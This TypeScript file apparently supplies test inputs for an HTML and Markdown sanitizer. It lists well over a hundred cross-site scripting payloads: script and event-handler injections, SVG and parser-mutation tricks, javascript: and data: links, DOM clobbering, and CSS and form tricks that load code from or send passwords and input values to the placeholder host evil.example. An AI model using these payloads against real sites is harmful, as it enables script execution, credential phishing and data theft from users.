/** What people have tried to get past a filter, as HTML and as Markdown. None of it may come out alive. */
export const payloads: string[] = [
  ...scripts(),
  ...handlers(),
  ...foreignContent(),
  ...mutations(),
  ...addresses(),
  ...documents(),
  ...forms(),
  ...styles(),
  ...names(),
  ...markdown(),
  ...malformed()
]

function scripts(): string[] {
  return [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script/src="https://evil.example/x.js"></script>',
    '<script\n>alert(1)</script\n>',
    '<script type="module">import "https://evil.example/x.js"</script>',
    '<script type="text/template"><img src=x onerror=alert(1)></script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script>alert(1)',
    '<script>/*</script><script>*/alert(1)</script>',
    '<script src="data:text/javascript,alert(1)"></script>',
    '</script><script>alert(1)</script>',
    '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
    '<ſcript>alert(1)</ſcript>',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '\\<script\\>alert(1)\\</script\\>',
    '<noembed><script>alert(1)</script></noembed>',
    '<script>\u2028alert(1)</script>'
  ]
}

function handlers(): string[] {
  return [
    '<img src=x onerror=alert(1)>',
    '<img src=x onerror="alert(1)" alt="a">',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x onerror\n=alert(1)>',
    '<img src=x ONERROR=alert(1)>',
    '<img src=x \u000conerror=alert(1)>',
    '<img src="x`onerror=alert(1)">',
    '<img src=x onerror=&#97;lert(1)>',
    '<img """><img src=x onerror=alert(1)>',
    '<image src=x onerror=alert(1)>',
    '<body onload=alert(1)>',
    '<body onhashchange=alert(1)><a href="#x">x</a>',
    '<div onmouseover="alert(1)">x</div>',
    '<p onclick=alert(1)>x</p>',
    '<a onclick="alert(1)" href="/x">x</a>',
    '<a href="/x" onfocus=alert(1) autofocus tabindex=1>x</a>',
    '<input onfocus=alert(1) autofocus>',
    '<select onfocus=alert(1) autofocus><option>x</select>',
    '<textarea onfocus=alert(1) autofocus>x</textarea>',
    '<button onclick=alert(1)>x</button>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<video><source onerror=alert(1)></video>',
    '<video src=x onerror=alert(1)></video>',
    '<audio src=x onloadstart=alert(1)></audio>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<iframe onload=alert(1)></iframe>',
    '<object onerror=alert(1) data=x></object>',
    '<embed src=x onload=alert(1)>',
    '<table background=x onpageshow=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>',
    '<ul><li onpointerenter=alert(1)>x</li></ul>',
    '<h2 onanimationstart=alert(1) style="animation:x 1s">x</h2>',
    '<x onbeforematch=alert(1) hidden=until-found>x</x>',
    '<custom-element onclick=alert(1)>x</custom-element>',
    '<div popover onbeforetoggle=alert(1) id=x>x</div><button popovertarget=x>y</button>',
    '<p on\u0000click=alert(1)>x</p>',
    '<code onclick=alert(1)>x</code>',
    '<pre onclick=alert(1)>x</pre>',
    '<blockquote cite="javascript:alert(1)" onclick=alert(1)>x</blockquote>'
  ]
}

function foreignContent(): string[] {
  return [
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:text/javascript,alert(1)"></script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="15">x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
    '<svg><set attributeName=href to=javascript:alert(1)></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></use></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<svg><image href="x" onerror=alert(1)></svg>',
    '<svg><style>*{background:url(https://evil.example)}</style></svg>',
    '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
    '<svg><title><img src=x onerror=alert(1)></title></svg>',
    '<svg><desc><script>alert(1)</script></desc></svg>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><mtext><script>alert(1)</script></mtext></math>'
  ]
}

function mutations(): string[] {
  return [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<xmp></xmp/><script>alert(1)</script>',
    '<template><script>alert(1)</script></template>',
    '<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><script>alert(1)</script></template>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><math><img src=x onerror=alert(1)>',
    '<svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg>',
    '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
    '<title></title><img src=x onerror=alert(1)></title>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    '<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    '<plaintext><script>alert(1)</script>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<table><td><svg><desc><td><title><a id="</title><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--!><img src=x onerror=alert(1)--!>',
    '<!-- --!><script>alert(1)</script> -->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<a><a><b><table><a><img src=x onerror=alert(1)>',
    '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
    '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
    '<option><style></option></select><img src=x onerror=alert(1)></style>'
  ]
}

function addresses(): string[] {
  const schemes = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    'java\nscript:alert(1)',
    ' javascript:alert(1)',
    '\u0001javascript:alert(1)',
    'java&#x09;script:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A&#x61&#x76&#x61script:alert(1)',
    'javascript://example.com/%0Aalert(1)',
    'vbscript:msgbox(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data:image/svg+xml,<svg onload=alert(1)>',
    'blob:https://example.com/x',
    'file:///etc/passwd',
    'view-source:javascript:alert(1)',
    'feed:javascript:alert(1)',
    '//evil.example/x',
    '/\\evil.example/x',
    '\\\\evil.example\\x'
  ]
  return [
    ...schemes.map(address => `<a href="${address}">x</a>`),
    ...schemes.map(address => `[x](<${address}>)`),
    ...schemes.slice(0, 14).map(address => `<img src="${address}" alt="x">`),
    ...schemes.slice(0, 14).map(address => `![x](<${address}>)`),
    '<a href=`javascript:alert(1)`>x</a>',
    '<a href="https://example.com" ping="https://evil.example" target=_top>x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="https://example.com/&quot;onmouseover=&quot;alert(1)">x</a>',
    '<area href="javascript:alert(1)" shape=default>',
    '<img srcset="javascript:alert(1) 1x, https://evil.example/x 2x">',
    '<img src="x" lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">',
    '<picture><source srcset="https://evil.example/x"><img src=x onerror=alert(1)></picture>',
    '<video poster="javascript:alert(1)"></video>'
  ]
}

function documents(): string[] {
  return [
    '<base href="https://evil.example/">',
    '<base target="_blank"><a href="/x">x</a>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    '<meta name="referrer" content="unsafe-url">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<link rel="prefetch" href="https://evil.example/x">',
    '<link rel=import href="https://evil.example/x.html">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://evil.example/sign-in"></iframe>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<object type="text/html" data="https://evil.example"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="javascript:alert(1)"></applet>',
    '<html manifest="https://evil.example"><head><title>x</title></head><body onload=alert(1)>x</body></html>',
    '<portal src="https://evil.example"></portal>',
    '<fencedframe></fencedframe><script type="speculationrules">{"prefetch":[{"urls":["https://evil.example"]}]}</script>'
  ]
}

function forms(): string[] {
  return [
    '<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>',
    '<input type=image src=x formaction="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type=image>',
    '<keygen autofocus onfocus=alert(1)>',
    '<dialog open>Sign in again</dialog>'
  ]
}

function styles(): string[] {
  return [
    '<style>@import "https://evil.example/x.css";</style>',
    '<style>body{background:url(https://evil.example/?x)}</style>',
    '<style>input[value^=a]{background:url(https://evil.example/a)}</style>',
    '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Your session has ended</div>',
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x#x)">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="@\\69mport \'https://evil.example/x\'">x</p>',
    '<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>',
    '<body background="https://evil.example/x">',
    '<font style="font-family:x;color:red" size="999">x</font>',
    '<div class="dialog toast site-header">x</div>'
  ]
}

function names(): string[] {
  return [
    '<p id="location">x</p>',
    '<a id="document" name="cookie" href="/x">x</a>',
    '<form name="body"><input name="innerHTML"></form>',
    '<img name="getElementById" src="x">',
    '<h2 id="config">x</h2>',
    '<a id=x></a><a id=x name=y href="javascript:alert(1)"></a>',
    '# location',
    '## __proto__',
    '## constructor {#location onclick=alert(1)}',
    '# <img src=x onerror=alert(1)>',
    '## "><script>alert(1)</script>'
  ]
}

function markdown(): string[] {
  return [
    '[x](javascript:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](java%73cript:alert(1))',
    '[x]: javascript:alert(1)\n\n[x]',
    '[x]: <java\tscript:alert(1)> "t"\n\n[x] ![x]',
    '<javascript:alert(1)>',
    '<data:text/html,alert(1)>',
    '[x](https://example.com "onmouseover=alert(1)")',
    '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
    '[x](https://example.com/"onmouseover="alert(1))',
    '[x](<https://example.com" onmouseover="alert(1)>)',
    '![x](https://example.com/x.png "\\" onerror=\\"alert(1)")',
    '![" onerror="alert(1)](https://example.com/x.png)',
    '![x](x" onerror="alert(1))',
    '![x](/files/x.png "x =1x1\\" onerror=\\"alert(1)")',
    '![<script>alert(1)</script>](https://example.com/x.png)',
    '[<script>alert(1)</script>](https://example.com)',
    '[![x](javascript:alert(1))](javascript:alert(2))',
    '[x](article:42#"onclick="alert(1))',
    '[x](article:42#</a><script>alert(1)</script>)',
    '[x](article:javascript:alert(1))',
    'http://x"onmouseover=alert(1)',
    'https://example.com/<script>alert(1)</script>',
    "https://example.com/'onmouseover='alert(1)",
    'mailto:x@example.com?body=<script>alert(1)</script>',
    'x"onclick=alert(1)@example.com',
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onclick="alert(1)\nx\n```',
    '`<img src=x onerror=alert(1)>`',
    '    <script>alert(1)</script>',
    ':::tip <img src=x onerror=alert(1)>\nx\n:::',
    ':::note" onclick="alert(1)\nx\n:::',
    ':::danger\n<script>alert(1)</script>\n:::',
    '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
    '| x |\n| :-: style="x" |\n| y |',
    '[x](https://example.com){onclick=alert(1)}',
    '1. <script>alert(1)</script>',
    '> <img src=x onerror=alert(1)>',
    '**<script>**alert(1)**</script>**',
    '<a href="https://example.com">**x</a>**',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '<https://example.com/" onclick="alert(1)>'
  ]
}

function malformed(): string[] {
  return [
    '<',
    '</',
    '<!',
    '<img src=x onerror=alert(1)//',
    '<a href="javascript:alert(1)',
    '<b <script>alert(1)</script>0',
    '<<script>alert(1)//<</script>',
    '<img\u0000 src=x onerror=alert(1)>',
    '\u0000<script>alert(1)</script>',
    '<p/title=x><script >alert(1)</script >',
    '<div <p onclick=alert(1)>x',
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
    '{{constructor.constructor("alert(1)")()}}',
    '\u202E<script>alert(1)</script>',
    '\ufeff<script>alert(1)</script>',
    '<ıframe src=javascript:alert(1)>',
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-'
  ]
}
